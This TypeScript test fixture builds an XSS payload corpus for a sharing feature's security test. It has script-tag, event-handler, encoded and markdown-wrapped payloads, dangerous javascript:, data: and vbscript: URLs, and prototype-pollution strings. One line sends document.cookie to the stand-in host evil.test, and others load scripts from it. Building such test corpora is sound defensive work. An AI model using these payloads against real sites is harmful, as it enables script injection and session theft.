/**
 * XSS payloads for the sharing security test (DESIGN.md decision 10). Each one, were it ever interpreted as
 * markup or followed as a URL, would open a dialog (alert/confirm/prompt), navigate, or fetch from evil.test;
 * the test listens for all three. Base payloads are expanded with mixed-case, entity-encoded and bullet-markup
 * (**, *, __) variants.
 */

/** Markup: script tags, event handlers, dangerous elements, breaking out of attributes and raw-text elements. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<script>fetch("https://evil.test/steal?c="+document.cookie)</script>',
  '</script><script>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(String.fromCharCode(88,83,83))</script>',
  '<script type="module">alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<div style="background:url(https://evil.test/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '"><img src=x onerror=alert(1)>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
];

/** Template and JS injection strings: harmless unless some code evaluates text. */
const CODE = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`${alert(1)}`',
  '";alert(1);//',
  "';alert(1);//",
  '\\";alert(1);//',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":true}}',
];

/** URLs that must never become a link (only http, https and mailto may). */
export const DANGEROUS_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\u200b:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  'javascript:alert(document.domain)//https://example.com',
  'javascript://%0aalert(1)',
  'javascript://example.com/%0Aalert(1)',
  'jAvAsCrIpT://example.com/%0Aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data://example.com/text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'VBScript:alert(1)',
  'vbscript://example.com/%0Amsgbox(1)',
  'file:///etc/passwd',
  'blob:https://evil.test/x',
  '//evil.test/%0Aalert(1)',
  'https://example.com/"><script>alert(1)</script>',
  'https://example.com/" onmouseover="alert(1)',
  "https://example.com/' onclick='alert(1)",
];

/** Variants an encoder or a case-sensitive filter could miss. */
const mixedCase = (s: string) => s.replace(/[a-z]/gi, (ch, i) => (i % 2 ? ch.toUpperCase() : ch.toLowerCase()));
const entityEncoded = (s: string) => s.replace(/[<>"']/g, (ch) => `&#${ch.charCodeAt(0)};`);
const hexEncoded = (s: string) => s.replace(/[<>]/g, (ch) => `&#x${ch.charCodeAt(0).toString(16)};`);
const named = (s: string) => s.replace(/</g, '&lt;').replace(/>/g, '&gt;');

const MARKUP_VARIANTS = [
  ...MARKUP.slice(0, 24).map(mixedCase),
  ...MARKUP.slice(0, 12).map(entityEncoded),
  ...MARKUP.slice(0, 8).map(hexEncoded),
  ...MARKUP.slice(0, 6).map(named),
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];

/** Bullet markup delimiters wrapped around, inside and across payloads. */
const DELIMITER_TRICKS = [
  '**<script>alert(1)</script>**',
  '*<img src=x onerror=alert(1)>*',
  '__<svg onload=alert(1)>__',
  '***<script>alert(1)</script>***',
  '**__*<iframe src="javascript:alert(1)">*__**',
  '<**script**>alert(1)</**script**>',
  '<*img src=x onerror=alert(1)*>',
  '<__svg onload=alert(1)__>',
  '**bold** <b onmouseover=alert(1)>x</b> *it*',
  '**[click](javascript:alert(1))**',
  '__[x](data:text/html,<script>alert(1)</script>)__',
  '** **<img src=x onerror=alert(1)>** **',
  '*_<a href="javascript:alert(1)">x</a>_*',
  '**<script>alert(1)',
  'alert(1)</script>**',
  '**<a href="javascript:alert(1)">**x**</a>**',
  '__**<img src=x onerror=alert(1)>__**',
  '*"><img src=x onerror=alert(1)>*',
  '**__proto__**',
  '__constructor__',
];

export const XSS_CORPUS: string[] = [
  ...new Set([...MARKUP, ...MARKUP_VARIANTS, ...CODE, ...DANGEROUS_URLS, ...DELIMITER_TRICKS]),
];

/**
 * URLs for link-embedded shares: the shared-link schema only lets through URLs that parse with a host (or
 * mailto), so these are the dangerous ones that pass it and must still never become a link.
 */
export const SCHEMA_VALID_DANGEROUS_URLS = DANGEROUS_URLS.filter((u) => {
  try {
    const url = new URL(u);
    return url.host !== '' && !/^https?:$/.test(url.protocol);
  } catch {
    return false;
  }
});
